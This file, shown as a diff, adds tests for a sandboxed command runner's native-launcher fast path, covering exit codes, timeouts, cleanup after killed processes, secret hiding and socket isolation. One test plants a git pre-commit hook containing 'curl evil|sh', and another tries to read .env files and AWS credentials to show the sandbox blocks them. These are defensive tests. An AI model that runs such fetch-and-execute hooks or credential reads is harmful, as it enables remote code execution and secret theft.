@@ -1,0 +1,211 @@
+// The fast path of `warden run`: the native launcher (native/build/warden-launch) and the
+// resident supervisor. The first run starts the supervisor and takes the Node path; the next
+// ones are started by the launcher, Node not involved, with the same outcome: exit statuses,
+// signals, missing commands, timeouts, the checks after the run, and nothing left when the
+// launcher is killed. A socket that is not the user's is never used.
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import net from 'node:net';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { NOBODY, REPO, scratch, warden, type RunOpts, type Scratch } from './helpers/warden-run.js';
+
+const LAUNCHER = path.join(REPO, 'native/build/warden-launch');
+const built = fs.existsSync(LAUNCHER);
+
+/** The launcher's socket name: one supervisor per user and per installation (FNV-1a of the repository path). */
+function socketName(): string {
+  let h = 2166136261;
+  for (const c of Buffer.from(fs.realpathSync(REPO))) h = Math.imul(h ^ c, 16777619) >>> 0;
+  return `supervisor-${h.toString(16).padStart(8, '0')}.sock`;
+}
+
+async function until(f: () => boolean, ms: number): Promise<boolean> {
+  for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 50))) if (f()) return true;
+  return f();
+}
+
+/** What runs as process `pid` once it has settled (the sh entry point execs the launcher or node). */
+function exeOf(pid: number): string | undefined {
+  try {
+    return fs.readlinkSync(`/proc/${pid}/exe`);
+  } catch {
+    return undefined;
+  }
+}
+
+describe.skipIf(!built)('warden run fast path (native launcher + supervisor)', () => {
+  let s: Scratch;
+  let xdg: string;
+  let o: RunOpts;
+  const sh = (script: string, extra: Partial<RunOpts> & { args?: string[] } = {}) => warden(['run', ...(extra.args ?? []), '--', '/bin/sh', '-c', script], { ...o, ...extra, env: { ...o.env, ...extra.env } });
+
+  beforeAll(async () => {
+    s = scratch();
+    xdg = path.join(s.root, 'xdg');
+    fs.mkdirSync(xdg, { mode: 0o700 });
+    o = { cwd: s.ws, env: { HOME: s.home, XDG_RUNTIME_DIR: xdg, WARDEN_FAST: '1', WARDEN_SUPERVISOR_IDLE_MS: '30000' } };
+    // Cold: the Node path runs it and starts the supervisor for the next runs.
+    expect((await sh('true')).code).toBe(0);
+    expect(await until(() => fs.existsSync(path.join(xdg, 'warden', socketName())), 15_000)).toBe(true);
+  });
+  afterAll(() => s.cleanup()); // the supervisor sees its socket gone and exits
+
+  it('a warm run is started by the launcher, without Node; WARDEN_FAST=0 takes the Node path', async () => {
+    const exe = async (env: Record<string, string>) => {
+      let pid = 0;
+      const marker = path.join(s.ws, `started-${crypto.randomUUID()}`);
+      const r = sh(`touch ${path.basename(marker)}; sleep 5 & wait`, { env, onSpawn: (p) => (pid = p) });
+      expect(await until(() => fs.existsSync(marker), 20_000)).toBe(true);
+      const seen = exeOf(pid);
+      process.kill(pid, 'SIGTERM');
+      return { seen, r: await r };
+    };
+    const fast = await exe({});
+    expect(fast.seen).toBe(fs.realpathSync(LAUNCHER));
+    expect(fast.r.code).toBe(143); // SIGTERM passed to the command's group: 128+15, as on the Node path
+    const slow = await exe({ WARDEN_FAST: '0' });
+    expect(path.basename(slow.seen ?? '')).toMatch(/^node/);
+    expect(slow.r.code).toBe(143);
+  });
+
+  it('a cached plan is not used once what it was made from changed: secrets that appear between runs are hidden', async () => {
+    const ws = path.join(s.ws, 'cache');
+    fs.mkdirSync(path.join(ws, 'deep/er'), { recursive: true });
+    const read = `cat .env.local deep/er/.env "$HOME/.aws/credentials" 2>/dev/null; echo end`;
+    expect((await sh(read, { cwd: ws })).stdout.trim()).toBe('end'); // compiled and cached
+    expect((await sh(read, { cwd: ws })).stdout.trim()).toBe('end'); // from the cache
+    // Between two runs: a token file deep down (only its directory changed), then a .env at the
+    // top and a credentials directory in HOME.
+    fs.writeFileSync(path.join(ws, 'deep/er/.env'), 'TOKEN=FAKE-SECRET-fastpath-2');
+    expect((await sh(read, { cwd: ws })).stdout).not.toContain('FAKE-SECRET');
+    fs.writeFileSync(path.join(ws, '.env.local'), 'FAKE-SECRET-fastpath-1');
+    fs.mkdirSync(path.join(s.home, '.aws'));
+    fs.writeFileSync(path.join(s.home, '.aws/credentials'), 'FAKE-SECRET-fastpath-3');
+    const r = await sh(read, { cwd: ws });
+    expect(r.stdout).not.toContain('FAKE-SECRET');
+    expect(r.stdout.trim()).toBe('end');
+    // control: they are there, readable outside
+    expect(fs.readFileSync(path.join(ws, 'deep/er/.env'), 'utf8')).toContain('FAKE-SECRET-fastpath-2');
+  });
+
+  it('exit statuses, deaths by signal and missing commands read the same both ways', async () => {
+    for (const [script, code] of [
+      ['exit 3', 3],
+      ['kill -KILL $$', 137],
+    ] as const)
+      for (const fast of ['1', '0']) expect((await sh(script, { env: { WARDEN_FAST: fast } })).code, `${script} fast=${fast}`).toBe(code);
+    for (const fast of ['1', '0']) {
+      const r = await warden(['run', '--', 'no-such-command-fastpath'], { ...o, env: { ...o.env, WARDEN_FAST: fast } });
+      expect(r.code).toBe(127);
+      expect(r.stderr).toContain('no-such-command-fastpath: command not found');
+    }
+  });
+
+  it('the timeout stops the command (124); the checks after the run move a planted hook aside', async () => {
+    const policy = s.policy('resources: { timeout: 1s, timeout_grace: 1s }\n');
+    const t = await sh(`trap '' TERM; while :; do sleep 0.1; done`, { args: ['--policy', policy] });
+    expect(t.code).toBe(124);
+    expect(t.stderr).toContain('timeout after 1000 ms');
+    const ws = path.join(s.ws, 'repo');
+    s.write(path.join(ws, '.git/HEAD'), 'ref: refs/heads/main\n');
+    const audit = path.join(s.root, 'audit.ndjson');
+    const r = await sh(`mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit && echo created`, { cwd: ws, args: ['--audit', audit] });
+    expect(r.stdout).toContain('created');
+    expect(r.stderr).toMatch(/protected path .*\.git\/hooks was created/);
+    expect(fs.existsSync(path.join(ws, '.git/hooks'))).toBe(false);
+    expect(fs.readFileSync(audit, 'utf8')).toContain('sandbox.protected_path');
+  });
+
+  it('a launcher killed during the run takes its sandbox with it and leaves no record', async () => {
+    const marker = path.join(s.ws, 'killed-started');
+    let pid = 0;
+    const tag = `${Date.now() % 100000}.123`;
+    const r = sh(`touch killed-started; sleep ${tag}`, { onSpawn: (p) => (pid = p) });
+    expect(await until(() => fs.existsSync(marker), 20_000)).toBe(true);
+    expect(exeOf(pid)).toBe(fs.realpathSync(LAUNCHER));
+    process.kill(pid, 'SIGKILL');
+    await r;
+    const sleeping = () => fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).some((p) => {
+      try {
+        return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(`sleep\0${tag}`);
+      } catch {
+        return false;
+      }
+    });
+    expect(await until(() => !sleeping(), 10_000)).toBe(true);
+    const records = () => fs.readdirSync(path.join(xdg, 'warden/sandboxes')).filter((n) => n.endsWith('.json'));
+    expect(await until(() => records().length === 0, 10_000), records().join(' ')).toBe(true);
+  });
+
+  it('a supervisor killed during a run: the command still ends with its status, the next run finishes the cleanup', async () => {
+    const sock = path.join(xdg, 'warden', socketName());
+    expect(await until(() => fs.existsSync(sock), 15_000)).toBe(true);
+    const supervisor = () =>
+      fs.readdirSync('/proc').find((p) => {
+        try {
+          return /^\d+$/.test(p) && fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').split('\0').join(' ').includes(`supervisor --socket ${sock}`);
+        } catch {
+          return false;
+        }
+      });
+    const pid = Number(supervisor());
+    expect(pid).toBeGreaterThan(0);
+    const r = sh('touch sup-started; while [ ! -e sup-killed ]; do sleep 0.05; done; echo finished; exit 5');
+    expect(await until(() => fs.existsSync(path.join(s.ws, 'sup-started')), 20_000)).toBe(true);
+    process.kill(pid, 'SIGKILL');
+    fs.writeFileSync(path.join(s.ws, 'sup-killed'), '');
+    const done = await r;
+    expect(done.stdout).toContain('finished');
+    expect(done.code).toBe(5);
+    expect(done.stderr).toContain('the supervisor went away');
+    const records = () => fs.readdirSync(path.join(xdg, 'warden/sandboxes')).filter((n) => n.endsWith('.json'));
+    expect(records().length).toBe(1); // the run's crash record, of a dead supervisor
+    const next = await sh('true');
+    expect(next.stderr).toMatch(/cleaned up after sandbox/);
+    expect(records()).toEqual([]);
+  });
+
+  it("the sandbox cannot reach its supervisor's socket (control: it answers outside)", async () => {
+    const sock = path.join(xdg, 'warden', socketName());
+    const answers = () =>
+      new Promise<boolean>((resolve) => {
+        const c = net.connect(sock, () => (c.destroy(), resolve(true)));
+        c.on('error', () => resolve(false));
+      });
+    // (the supervisor killed by the test before is replaced by the one its next run started)
+    let outside = false;
+    for (let i = 0; i < 150 && !(outside = await answers()); i++) await new Promise((r) => setTimeout(r, 100));
+    expect(outside).toBe(true);
+    const py = `import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(${JSON.stringify(sock)})\n    print("connected")\nexcept OSError as e:\n    print("refused", e.errno)`;
+    // By default no unix socket can even be made (seccomp); with them allowed, the runtime directory is hidden.
+    expect((await warden(['run', '--', '/usr/bin/python3', '-c', py], o)).stdout).toMatch(/^refused 1\b/);
+    const unix = s.policy('network: { unix_sockets: true }\n');
+    expect((await warden(['run', '--policy', unix, '--', '/usr/bin/python3', '-c', py], o)).stdout).toMatch(/^refused (2|13)\b/); // hidden (ENOENT) or not searchable by the sandbox uid (EACCES)
+  });
+
+  it("a socket that is not the user's own is never used (Node path instead)", async () => {
+    // nobody's runtime directory holds a socket of root's, open to all: a trap that must get no request.
+    const dir = path.join(s.root, 'xdg-nobody');
+    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true });
+    fs.chownSync(dir, NOBODY, NOBODY);
+    fs.chmodSync(dir, 0o700);
+    fs.chownSync(path.join(dir, 'warden'), NOBODY, NOBODY);
+    const got: Buffer[] = [];
+    const trap = net.createServer((c) => c.on('data', (d) => got.push(d)));
+    const sock = path.join(dir, 'warden', socketName());
+    await new Promise<void>((r) => trap.listen(sock, () => r()));
+    fs.chmodSync(sock, 0o777);
+    try {
+      const ws = path.join(s.root, 'ws-nobody');
+      fs.mkdirSync(ws);
+      fs.chownSync(ws, NOBODY, NOBODY);
+      const r = await warden(['run', '--', '/bin/sh', '-c', 'echo ran'], { cwd: ws, uid: NOBODY, env: { HOME: ws, XDG_RUNTIME_DIR: dir, WARDEN_FAST: '1' } });
+      expect(r.stdout).toContain('ran');
+      expect(r.code).toBe(0);
+      expect(Buffer.concat(got).length).toBe(0);
+    } finally {
+      trap.close();
+    }
+  });
+});
